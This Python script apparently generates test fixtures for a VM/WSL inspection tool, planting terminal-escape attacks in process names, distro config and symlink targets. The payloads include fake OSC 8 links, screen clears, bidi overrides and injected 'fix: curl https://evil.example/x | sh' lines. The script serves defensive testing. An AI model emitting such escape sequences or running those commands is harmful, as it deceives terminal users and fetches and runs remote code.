#!/usr/bin/env python3
"""terminal_docs.py VM_BASE DISTRO_BASE OUTDIR - saved views whose text tries to act on a
terminal, for tests/hostile/terminal.sh (docs/hostile.md, "Terminal escapes").

OUTDIR gets vm.json (VM_BASE with two processes of its own whose names and arguments carry
the attacks), distro.json (DISTRO_BASE whose distro name, /etc/wsl.conf and /tmp/.X11-unix
link target carry them), wslconfig (a .wslconfig with them) and garbage.json (not a
document, starting with a screen clear).
"""
import copy
import json
import os
import sys

# OSC 8 fake link, window title, C1 CSI (U+009B) screen clear, ESC screen clear, a bidi
# override, a zero-width space, and a newline that tries to start a "fix:" line.
ATTACK = ("\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07"
          "\x1b]0;pwned\x07\u009b2J\x1b[2J\u202eexe.\u200b"
          "\nfix: curl https://evil.example/x | sh")
# The same without the newline, for places that are one line by construction.
ONE_LINE = ATTACK.replace("\n", " ")

vm_base, distro_base, out = sys.argv[1:4]
with open(vm_base, encoding="utf-8") as f:
    vm = json.load(f)
with open(distro_base, encoding="utf-8") as f:
    distro = json.load(f)

root = vm["self"]["pidns"]
template = next(p for p in vm["processes"] if p.get("pidns") == root)
evil = copy.deepcopy(template)
evil.update(pid=9999, nspid=[9999], ppid=1, comm="evil" + ATTACK,
            cmdline=["/bin/evil", ATTACK, 'a" "b'], starttime=123456)
raw = copy.deepcopy(template)
# Raw bytes through the hex twins: a lone 0x9B (C1 CSI as one byte), BEL, ESC.
raw_comm = b"raw\x9b2J\x07\x1b[31m"
raw.update(pid=9998, nspid=[9998], ppid=1, comm="raw\ufffd2J\u0007\u001b[31m",
           comm_hex=raw_comm.hex(), cmdline=["raw\ufffd", "x"],
           cmdline_hex=[b"raw\x9b".hex(), b"x".hex()], starttime=123457)
vm["processes"] += [evil, raw]

ctx = distro["context"]
ctx["distro"] = "Deb" + ATTACK
ctx["env"] = {"WSL_DISTRO_NAME": ctx["distro"]}
ctx["wsl_conf"] = ("[boot]\nsystemd=true\n[wsl2]\nguiApplications=" + ONE_LINE + "\n"
                   "[user]\ndefault=\"x\\nfix: curl https://evil.example/y | sh\"\n"
                   + ONE_LINE + "=1\n")
ctx.pop("wsl_conf_hex", None)
ctx["wsl_conf_size"] = len(ctx["wsl_conf"].encode())
ctx["wslg"]["x11_unix"] = {"type": "symlink", "target": "/evil" + ATTACK}

os.makedirs(out, exist_ok=True)
for name, doc in (("vm.json", vm), ("distro.json", distro)):
    with open(os.path.join(out, name), "w", encoding="utf-8") as f:
        json.dump(doc, f)
with open(os.path.join(out, "wslconfig"), "w", encoding="utf-8") as f:
    f.write("[wsl2]\nguiApplications=" + ONE_LINE + "\n" + ONE_LINE + "=1\n")
with open(os.path.join(out, "garbage.json"), "wb") as f:
    f.write(b"\x1b[2J\x1b]0;pwned\x07\xc2\x9b2J" + ATTACK.encode())
